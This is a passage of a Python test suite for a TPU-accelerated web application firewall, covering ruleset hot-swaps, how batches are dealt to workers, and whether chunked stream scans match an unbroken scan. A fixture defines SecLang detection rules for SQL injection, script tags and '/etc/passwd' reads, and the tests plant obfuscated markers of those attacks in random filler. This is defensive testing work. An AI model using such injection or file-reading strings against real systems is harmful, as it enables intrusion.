    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.serve import stream

    b = small_batcher(workers=POOLS[pool])
    try:
        old = b.pipeline

        def _swap():
            t = threading.Thread(target=b.swap_ruleset, args=(
                compile_ruleset(parse_seclang(SQLI_RULE)),))
            t.start()
            t.join(120)
            assert not t.is_alive()

        if when == "scan":
            eng, real_scan = b.stream_engine, b.stream_engine.scan

            def _swap_then_scan(items, **kw):
                del eng.scan
                _swap()
                return real_scan(items, **kw)

            eng.scan = _swap_then_scan
        else:
            real_join = stream.join_confirm

            def _swap_then_join(pl, job):
                monkeypatch.setattr(stream, "join_confirm", real_join)
                _swap()
                return real_join(pl, job)

            monkeypatch.setattr(stream, "join_confirm", _swap_then_join)
        verdicts = [f.result(timeout=180)
                    for f in submit_together(b, small_batch(3))]
        assert b.pipeline is not old
        assert all(v.fail_open and not v.attack for v in verdicts)
        assert old.confirm_pool.requests_process == (
            3 if when == "walk" and not old.confirm_pool.inline else 0)
        verdicts = [f.result(timeout=180)
                    for f in submit_together(b, small_batch(2))]
        assert [(v.attack, v.fail_open) for v in verdicts] == [
            (True, False), (False, False)]
        assert {v.generation for v in verdicts} == {
            b.pipeline.generation_tag}
    finally:
        b.close()


def test_the_side_lanes_deal_takes_the_last_walkers_a_batch_the_first():
    """On four walkers: a side-lane batch of two goes out a request a
    share to the last two walkers, so that their walks run side by
    side, and a batched dispatch's shares go to the first ones."""
    b = small_batcher(workers=4)
    try:
        pl = b.pipeline
        pool = pl.confirm_pool
        idx = [w.worker_index for w in pool._workers]
        assert [w.worker_index for w in pool.deal(pl, 2, side_lane=True)] \
            == idx[2:]
        assert [w.worker_index for w in pool.deal(pl, 2)] == idx[:2]
        assert [w.worker_index for w in pool.deal(pl, 6, side_lane=True)] \
            == idx
        verdicts = [f.result(timeout=180)
                    for f in submit_together(b, small_batch(2))]
        assert [v.attack for v in verdicts] == [True, False]
        assert sorted(v.confirm_worker for v in verdicts) == idx[2:]
        assert pool.requests_process == 2 and pool.requests_inline == 0
    finally:
        b.close()


# ------------------------------------------------ the plan, engine alone

@pytest.fixture(scope="module")
def small_engine():
    """A four-rule pack (few scan words: a 200 KB scan takes a second
    on the CPU; the untransformed rule keeps variant 0, whose row is the
    bytes fed) under a stream engine of its own."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.stream import StreamEngine

    rules = """
SecRule REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_BODY "@rx (?i)unionselect" \
    "id:942270,phase:2,block,t:removeWhitespace,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_BODY "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""
    return StreamEngine(DetectionPipeline(
        compile_ruleset(parse_seclang(rules)), mode="block"))


# filler that holds no factor of the small pack.  "plain": no byte any
# variant rewrites or deletes, so every variant's row is the body and a
# wave boundary lies at the same byte of each; "mixed": escapes,
# entities, split escapes and runs of deletable bytes, so the rows differ
# in content and length and the short ones ride the longest one's waves
FILLER = {"plain": [b"lorem", b"ipsum", b"dolor", b"0123", b"x"],
          "mixed": [b"lorem", b" ", b"+", b"%20", b"&amp;", b"%u0041", b"\n",
                    b"'", b"\\", b"x=1&y=", b"%4", b"&#x41;", b"&am", b"%u00"]}
# one factor a variant each: raw, url-decoded, html-decoded, squashed
PLANTS = [b"/etc/passwd", b"union%20select", b"&lt;script", b"un ion\tsel ect"]


def random_body(rng: random.Random, size: int, mode: str, plant: bytes,
                at: int) -> bytes:
    """``size`` bytes of filler with ``plant`` laid over byte ``at``:
    the only place a factor of the pack can match."""
    parts, n = [], 0
    while n < size + len(plant):
        a = rng.choice(FILLER[mode]) * rng.choice((1, 1, 1, 2, 40))
        parts.append(a)
        n += len(a)
    text = b"".join(parts)
    start = max(0, min(at - len(plant) // 2, size - len(plant)))
    return (text[:start] + plant + text[start:])[:size]


def scanned_carry(engine, body: bytes):
    """(variants, state, match) of one body fed as the side lane feeds
    it: 64 KiB at a time through ``StreamEngine.scan``, then the flush."""
    from ingress_plus_tpu.serve.normalize import Request

    st = engine.begin(Request(method="POST", uri="/u", request_id="p",
                              parsers_off=frozenset(
                                  ("gzip", "base64", "json"))))
    for i in range(0, len(body), CHUNK):
        engine.scan(st.feed(body[i:i + CHUNK]))
    engine.scan(st.flush())
    return st.variants, st.state, st.match


def scanned_together(engine, bodies):
    """(state, match) of each body's stream fed as the side lane feeds a
    batch: one ``StreamEngine.scan`` call a 64 KiB chunk index holding
    that chunk of every body that has one, the flush with its last."""
    from ingress_plus_tpu.serve.normalize import Request

    sts = [engine.begin(Request(method="POST", uri="/u", request_id="p%d" % i,
                                parsers_off=frozenset(
                                    ("gzip", "base64", "json"))))
           for i in range(len(bodies))]
    for i in range(0, max(len(b) for b in bodies), CHUNK):
        items = []
        for st, body in zip(sts, bodies):
            if i < len(body):
                items += st.feed(body[i:i + CHUNK])
            if i == (len(body) - 1) // CHUNK * CHUNK:
                items += st.flush()
        engine.scan(items)
    return [(st.state, st.match) for st in sts]


#: (size, plant, the byte it lies over) of the bodies of a batch
TOGETHER = [(CHUNK + 5_000, 1, CHUNK), (9_000, 0, 4_000),
            (2 * CHUNK + 100, 3, 2 * CHUNK + 50), (30_000, 2, WIDE_L)]


@pytest.mark.parametrize("row_cap", [8, 32])
@pytest.mark.parametrize("k", [2, 3, 4])
def test_streams_scanned_together_carry_what_each_carries_alone(
        small_engine, monkeypatch, k, row_cap):
    """The streams of a batch share each scan call, their rows side by
    side in a wave (or, past ``ROW_CAP`` rows, in further row sets):
    every row's state and match after the batch's calls are exactly
    those of its body scanned alone, and each body's factor is
    matched."""
    import numpy as np

    from ingress_plus_tpu.serve import stream

    rng = random.Random(k)
    bodies = [random_body(rng, size, "mixed", PLANTS[plant], at)
              for size, plant, at in TOGETHER[:k]]
    monkeypatch.setattr(stream, "ROW_CAP", row_cap)
    eng = small_engine
    w0 = eng.waves
    together = scanned_together(eng, bodies)
    waves = eng.waves - w0
    for body, (state, match) in zip(bodies, together):
        _v, a_state, a_match = scanned_carry(eng, body)
        assert np.array_equal(state, a_state)
        assert np.array_equal(match, a_match)
        assert match.any()
    assert waves < eng.waves - w0 - waves       # fewer than one by one


# (body bytes, the byte the plant lies over): every kind of boundary of
# the plan for variant 0's row, which is the bytes fed.  (0, 0): drawn
PLAN_CASES = [
    (1, 0), (CHUNK_L - 1, 700), (CHUNK_L + 1, CHUNK_L),     # narrow only
    (WIDE_L - 1, 7 * CHUNK_L),                  # the last narrow/narrow
    (WIDE_L, WIDE_L),                           # one wide wave, its tail
    (WIDE_L + 1, WIDE_L), (2 * WIDE_L - 1, WIDE_L),         # wide/narrow
    (2 * WIDE_L + 3 * CHUNK_L + 7, WIDE_L),                 # wide/wide
    (2 * WIDE_L + 3 * CHUNK_L + 7, 2 * WIDE_L),             # wide/narrow
    (2 * WIDE_L + 3 * CHUNK_L + 7, 2 * WIDE_L + CHUNK_L),   # narrow/narrow
    (CHUNK, 3 * WIDE_L),                        # four wide: the last two
    (CHUNK + 1, CHUNK),                         # wide, then the next feed
    (CHUNK + WIDE_L + 5, CHUNK + WIDE_L),       # second feed: wide/narrow
    (3 * CHUNK - 9, 2 * CHUNK + 2 * WIDE_L),    # third feed: wide/wide
    (200_000, 3 * CHUNK),                       # feed of wide / of narrow
] + [(0, 0)] * 6
UNBROKEN_L = 200_704        # one shape for every unbroken scan


@pytest.mark.parametrize("plant", range(len(PLANTS)))
@pytest.mark.parametrize("size,at", PLAN_CASES)
def test_planned_waves_carry_what_narrow_waves_and_one_scan_carry(
        small_engine, monkeypatch, size, at, plant, request):
    """The plan changes how many steps one device program runs, never
    what is scanned: ``state`` and ``match`` of every variant row after
    the planned waves equal those after all-2,048 waves and those of ONE
    unbroken ``scan_bytes`` call over the variant's whole stream, and
    the body's one factor, laid over a boundary of the plan, is matched.
    Named cases: plain filler (each variant's row is the body), every
    kind of boundary.  Drawn cases: 1 B to 200 KB by the case's own
    seed, mixed filler (the rows differ), the raw variant's factor over
    a boundary drawn from the plan's."""
    import numpy as np

    from ingress_plus_tpu.ops.scan import pad_rows, scan_bytes_jit
    from ingress_plus_tpu.serve import stream
    from ingress_plus_tpu.serve.normalize import variant_chain

    rng = random.Random(request.node.name)
    if size:
        mode, planted = "plain", PLANTS[plant]
    else:
        size = int(2 ** rng.uniform(0, 17.6))
        feed = rng.randrange(0, size, CHUNK)
        at = feed + rng.choice(
            [0] + list(range(WIDE_L, min(CHUNK, size - feed), WIDE_L))
            + list(range(CHUNK_L, min(CHUNK, size - feed), CHUNK_L)))
        mode, planted = "mixed", PLANTS[0] if plant else b""
    body = random_body(rng, size, mode, planted, at)
    eng = small_engine
    w0, s0 = eng.waves, eng.wave_steps
    variants, state, match = scanned_carry(eng, body)
    assert variants[0][0] == 0
    waves, steps = eng.waves - w0, eng.wave_steps - s0
    feeds = [min(CHUNK, size - i) for i in range(0, size, CHUNK)]
    assert waves >= sum(sum(planned_waves(n)) for n in feeds)
    assert steps >= size
    if size >= WIDE_L:
        assert steps > waves * CHUNK_L, "no wide wave launched"

    with monkeypatch.context() as m:
        m.setattr(stream, "wave_width", lambda pending: CHUNK_L)
        n0, t0 = eng.waves, eng.wave_steps
        _v, n_state, n_match = scanned_carry(eng, body)
        assert eng.wave_steps - t0 == (eng.waves - n0) * CHUNK_L
    assert np.array_equal(state, n_state)
    assert np.array_equal(match, n_match)

    rows = [variant_chain(body, v) for v, _sv, _src in variants]
    tokens, lengths = pad_rows(rows + [b""] * (8 - len(rows)),
                               max_len=UNBROKEN_L, round_to=UNBROKEN_L)
    u_match, u_state = scan_bytes_jit(eng.pipeline.engine.tables.scan,
                                      tokens, lengths)
    assert np.array_equal(match, np.asarray(u_match)[:len(rows)])
    assert np.array_equal(state, np.asarray(u_state)[:len(rows)])
    assert match.any() == (planted in body and bool(planted))
